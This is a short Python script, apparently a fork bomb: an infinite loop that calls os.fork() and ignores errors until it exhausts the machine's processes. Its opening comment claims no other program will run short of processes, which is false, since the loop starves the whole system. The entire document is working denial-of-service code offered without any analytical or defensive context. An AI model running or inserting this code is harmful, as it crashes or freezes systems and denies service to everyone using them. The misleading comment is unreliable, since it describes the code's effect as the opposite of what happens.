# Forks for ever. Nothing of it may be left, and no other program may run short of processes.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
